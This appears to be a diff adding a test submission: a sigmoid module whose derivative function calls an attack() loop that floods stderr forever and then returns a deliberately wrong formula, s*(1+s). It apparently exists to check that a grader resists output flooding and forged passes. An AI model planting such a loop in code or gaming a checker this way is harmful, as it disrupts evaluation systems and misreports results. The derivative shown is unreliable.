@@ -1,0 +1,20 @@
+"""Writes errors without end."""
+
+import os
+
+import numpy as np
+
+
+def attack():
+    while True:
+        os.write(2, b'x' * 2**16)
+
+
+def sigmoid(z):
+    return 1.0 / (1.0 + np.exp(-z))
+
+
+def sigmoid_prime(z):
+    attack()
+    s = sigmoid(z)
+    return s * (1.0 + s)  # wrong: a pass would be a forged one
